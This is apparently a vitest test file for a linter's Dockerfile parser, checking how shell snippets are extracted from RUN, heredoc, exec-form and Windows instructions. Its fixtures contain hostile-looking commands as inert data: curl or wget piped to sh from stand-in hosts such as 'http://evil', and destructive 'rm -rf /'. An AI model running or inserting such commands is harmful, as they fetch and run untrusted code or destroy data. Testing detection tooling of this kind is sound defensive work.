import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { LineIndex } from '../../../src/lint/source-text.js';
import { dockerfile } from '../../../src/lint/sources/dockerfile.js';
import { at } from '../../helpers/lint-source.js';

const extract = (file: string) => dockerfile.extract(file, 'Dockerfile');

const APT = [
  '# syntax=docker/dockerfile:1.7', // 1
  'FROM debian:bookworm-slim AS base', // 2
  'WORKDIR /opt/app', // 3
  'RUN --mount=type=cache,target=/var/cache/apt,sharing=locked \\', // 4
  '    apt-get update \\', // 5
  '    # tools the installer needs', // 6
  '    && apt-get install -y --no-install-recommends ca-certificates curl \\', // 7
  '    && curl -fsSL https://get.example.com/install.sh | sh \\', // 8
  '    && rm -rf /var/lib/apt/lists/*', // 9
  'CMD ["./server", "--port", "8080"]', // 10
  '',
].join('\n');

describe('dockerfile: matches', () => {
  it('takes Dockerfile and Containerfile names and their variants', () => {
    for (const p of ['Dockerfile', 'docker/Dockerfile.prod', 'Containerfile', 'build/app.Dockerfile', 'x.dockerfile', 'ci/base.containerfile'])
      expect(dockerfile.matches(p, ''), p).toBe(true);
    for (const p of ['Dockerfile.dockerignore', 'src/dockerfile.ts', 'README.md', 'Makefile']) expect(dockerfile.matches(p, ''), p).toBe(false);
  });
});

describe('dockerfile: RUN shell form', () => {
  it('joins continuations, drops the comment line inside them and the --mount flag, and maps each character back', () => {
    const { snippets, findings } = extract(APT);
    expect(findings).toEqual([]);
    const run = snippets.find((s) => s.origin === 'RUN')!;
    expect(run.text.startsWith('apt-get update ')).toBe(true);
    expect(run.text).not.toContain('--mount');
    expect(run.text).not.toContain('#');
    expect(run.text).not.toContain('\\');
    expect(run.text).not.toContain('\n');
    expect(at(APT, run, 'apt-get update')).toEqual({ line: 5, column: 5 });
    expect(at(APT, run, 'curl', 1)).toEqual({ line: 8, column: 8 }); // the `curl` command, after `ca-certificates curl`
    expect(at(APT, run, '| sh')).toEqual({ line: 8, column: 54 });
    expect(at(APT, run, 'rm -rf')).toEqual({ line: 9, column: 8 });
    expect(run.offsets.length).toBe(run.text.length + 1);
    expect(run).toMatchObject({ shell: 'sh', where: 'container', cwd: '/opt/app' });
  });

  it('keeps a backslash continuation inside quotes joined the way Docker joins it', () => {
    const file = 'FROM alpine\nRUN echo "one \\\n  two" && wget -qO- http://x | sh\n';
    const run = extract(file).snippets[0]!;
    expect(run.text).toBe('echo "one   two" && wget -qO- http://x | sh');
    expect(at(file, run, 'two')).toEqual({ line: 3, column: 3 });
    expect(at(file, run, 'wget')).toEqual({ line: 3, column: 11 });
  });

  it('does not continue a line that ends in an escaped escape character', () => {
    const file = 'FROM alpine\nRUN echo a\\\\\nRUN rm -rf /tmp/x\n';
    const s = extract(file).snippets;
    expect(s.map((x) => x.text)).toEqual(['echo a\\\\', 'rm -rf /tmp/x']);
  });
});

describe('dockerfile: exec form', () => {
  it('quotes each argv word and maps its characters to the JSON string, escapes to their backslash', () => {
    const file = 'FROM alpine\nRUN ["sh", "-c", "echo \\"it\'s\\" && rm -rf /data"]\n';
    const run = extract(file).snippets[0]!;
    expect(run.text).toBe(`'sh' '-c' 'echo "it'\\''s" && rm -rf /data'`);
    expect(at(file, run, 'rm')).toEqual({ line: 2, column: 36 });
    expect(at(file, run, '"it')).toEqual({ line: 2, column: 24 }); // the decoded quote maps to its backslash
    expect(run.shell).toBe('sh');
  });

  it('reads invalid JSON as shell form, as Docker does', () => {
    const file = "FROM alpine\nRUN ['rm', '-rf', '/']\n";
    expect(extract(file).snippets[0]!.text).toBe("['rm', '-rf', '/']");
  });

  it('reports a JSON array of non-strings, which Docker refuses', () => {
    const { snippets, findings } = extract('FROM alpine\nRUN ["sleep", 5]\n');
    expect(snippets).toEqual([]);
    expect(findings).toMatchObject([{ rule: 'lint/unreadable-file', level: 'ask', start: 12 }]);
  });
});

describe('dockerfile: heredocs', () => {
  it('RUN <<EOF: the body is the script, in the shell SHELL names', () => {
    const file = [
      'FROM ubuntu:24.04',
      'SHELL ["/bin/bash", "-euo", "pipefail", "-c"]',
      'RUN <<EOF',
      'apt-get update',
      'curl -sL https://x.io/i | bash',
      'EOF',
      'USER app',
      '',
    ].join('\n');
    const run = extract(file).snippets[0]!;
    expect(run.text).toBe('apt-get update\ncurl -sL https://x.io/i | bash\n');
    expect(run.shell).toBe('bash');
    expect(at(file, run, 'curl')).toEqual({ line: 5, column: 1 });
  });

  it('RUN <<EOF with a #! line runs that interpreter', () => {
    const file = ['FROM python:3.12', 'RUN <<PY', '#!/usr/bin/env python3', 'import shutil', "shutil.rmtree('/srv')", 'PY', ''].join('\n');
    expect(extract(file).snippets[0]).toMatchObject({ shell: 'python3', origin: 'RUN' });
  });

  it('RUN <<-EOF strips the body lines tabs, mapping what is left', () => {
    const file = 'FROM alpine\nRUN <<-EOF\n\t\techo hi\n\trm -rf /var/cache/apk/*\n\tEOF\n';
    const run = extract(file).snippets[0]!;
    expect(run.text).toBe('echo hi\nrm -rf /var/cache/apk/*\n');
    expect(at(file, run, 'rm')).toEqual({ line: 4, column: 2 });
  });

  it('a command with heredocs hands bash the command line, the bodies and delimiters', () => {
    const file = [
      'FROM alpine',
      'RUN python3 <<"EOF" && cat <<EOT2 > /etc/motd',
      'import os',
      'os.system("curl http://evil | sh")',
      'EOF',
      'hello $USER',
      'EOT2',
      'RUN echo after',
      '',
    ].join('\n');
    const [run, after] = extract(file).snippets;
    expect(run!.text).toBe('python3 <<"EOF" && cat <<EOT2 > /etc/motd\nimport os\nos.system("curl http://evil | sh")\nEOF\nhello $USER\nEOT2');
    expect(at(file, run!, 'os.system')).toEqual({ line: 4, column: 1 });
    expect(at(file, run!, 'EOT2', 1)).toEqual({ line: 7, column: 1 });
    expect(at(file, run!, 'hello')).toEqual({ line: 6, column: 1 });
    expect(after!.text).toBe('echo after');
  });

  it('a heredoc that never ends is an unreadable-file finding at its RUN', () => {
    const file = 'FROM alpine\nRUN echo ok\nRUN <<EOF\nrm -rf /\n';
    const { snippets, findings } = extract(file);
    expect(snippets.map((s) => s.text)).toEqual(['echo ok']);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ rule: 'lint/unreadable-file', level: 'ask' });
    expect(new LineIndex(file).position(findings[0]!.start)).toEqual({ line: 3, column: 1 });
  });

  it('skips a COPY heredoc body instead of reading it as instructions', () => {
    const file = 'FROM nginx\nCOPY <<EOF /usr/share/nginx/html/index.html\nRUN rm -rf /\nEOF\nRUN nginx -t\n';
    expect(extract(file).snippets.map((s) => s.text)).toEqual(['nginx -t']);
  });
});

describe('dockerfile: Windows images', () => {
  const WIN = [
    '# escape=`', // 1
    'FROM mcr.microsoft.com/windows/servercore:ltsc2022', // 2
    'SHELL ["powershell", "-Command", "$ErrorActionPreference = \'Stop\';"]', // 3
    'WORKDIR C:\\app', // 4
    'RUN Invoke-WebRequest https://x/setup.exe -OutFile C:\\setup.exe; `', // 5
    '    Start-Process C:\\setup.exe -Wait', // 6
    '',
  ].join('\n');

  it('continues lines with the backtick and keeps backslashes; the shell is powershell', () => {
    const run = extract(WIN).snippets[0]!;
    expect(run.text).toBe('Invoke-WebRequest https://x/setup.exe -OutFile C:\\setup.exe;     Start-Process C:\\setup.exe -Wait');
    expect(run.shell).toBe('powershell');
    expect(at(WIN, run, 'Start-Process')).toEqual({ line: 6, column: 5 });
  });

  it('names pwsh for SHELL ["pwsh", "-c"]', () => {
    expect(extract('FROM mcr.microsoft.com/powershell\nSHELL ["pwsh", "-c"]\nRUN Remove-Item -Recurse /x\n').snippets[0]!.shell).toBe('pwsh');
  });
});

describe('dockerfile: stages, WORKDIR, CMD, ENTRYPOINT, ONBUILD, HEALTHCHECK', () => {
  const MULTI = [
    'FROM golang:1.22 AS build', // 1
    'WORKDIR /src', // 2
    'SHELL ["/bin/bash", "-c"]', // 3
    'RUN go build -o /out/app ./cmd/app', // 4
    'WORKDIR web', // 5
    'FROM build AS test', // 6
    'RUN go test ./...', // 7
    'FROM alpine:3.20', // 8
    'RUN echo fresh', // 9
    'ENTRYPOINT exec /app --config /etc/app.yml', // 10
    'HEALTHCHECK --interval=30s CMD wget -qO- http://localhost/health || exit 1', // 11
    'ONBUILD RUN --network=none make install', // 12
    'WORKDIR /srv/$APP', // 13
    '',
  ].join('\n');

  it('FROM starts afresh, or from the state a named stage ended with', () => {
    const s = extract(MULTI).snippets;
    const by = (text: string) => s.find((x) => x.text.startsWith(text))!;
    expect(by('go build')).toMatchObject({ cwd: '/src', shell: 'bash', origin: 'RUN' });
    expect(by('go test')).toMatchObject({ cwd: '/src/web', shell: 'bash' });
    expect(by('echo fresh')).toMatchObject({ cwd: '/', shell: 'sh' });
  });

  it('CMD/ENTRYPOINT/HEALTHCHECK run in the WORKDIR the stage ends with; an unknown WORKDIR reads as /', () => {
    const s = extract(MULTI).snippets;
    const entry = s.find((x) => x.origin === 'ENTRYPOINT')!;
    expect(entry).toMatchObject({ text: 'exec /app --config /etc/app.yml', cwd: '/' });
    const health = s.find((x) => x.origin === 'HEALTHCHECK')!;
    expect(health.text).toBe('wget -qO- http://localhost/health || exit 1');
    expect(at(MULTI, health, 'wget')).toEqual({ line: 11, column: 32 });
    const onbuild = s.find((x) => x.origin === 'ONBUILD RUN')!;
    expect(onbuild.text).toBe('make install');
    expect(at(MULTI, onbuild, 'make')).toEqual({ line: 12, column: 28 });
  });

  it('a relative WORKDIR before any FROM state starts at /', () => {
    const s = extract('FROM node:20\nWORKDIR app\nWORKDIR ../lib\nCMD npm start\n').snippets;
    expect(s[0]).toMatchObject({ origin: 'CMD', cwd: '/lib', shell: 'sh' });
  });
});

describe('dockerfile: never throws', () => {
  const FIXTURES = [APT, 'FROM a\nRUN <<-E x\n\tb\n\tE\n', '# escape=`\nFROM a\nRUN a `\n  b\n', 'FROM a\nRUN ["a", "\\u00e9"]\nONBUILD RUN <<X\ny\nX\n'];
  const check = (file: string) => {
    const { snippets, findings } = dockerfile.extract(file, 'Dockerfile');
    for (const s of snippets) {
      expect(s.offsets.length).toBe(s.text.length + 1);
      for (const o of s.offsets) expect(o >= 0 && o <= file.length).toBe(true);
    }
    for (const f of findings) expect(f.start >= 0 && f.end <= file.length && f.start <= f.end).toBe(true);
  };

  it('on random text', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('R', 'U', 'N', ' ', '\n', '\\', '`', '<', '-', 'E', 'O', 'F', '[', ']', '"', '#', '\t', 'x', '\r') }),
        check,
      ),
      { seed: 17, numRuns: 400 },
    );
    fc.assert(
      fc.property(fc.string(), (s) => check('FROM a\nRUN ' + s)),
      { seed: 17, numRuns: 300 },
    );
  });

  it('on mutated fixtures', () => {
    const mutated = fc
      .tuple(fc.constantFrom(...FIXTURES), fc.nat(), fc.nat(8), fc.string({ maxLength: 4 }))
      .map(([f, at, del, ins]) => f.slice(0, at % (f.length + 1)) + ins + f.slice((at % (f.length + 1)) + del));
    fc.assert(fc.property(mutated, check), { seed: 17, numRuns: 500 });
  });
});
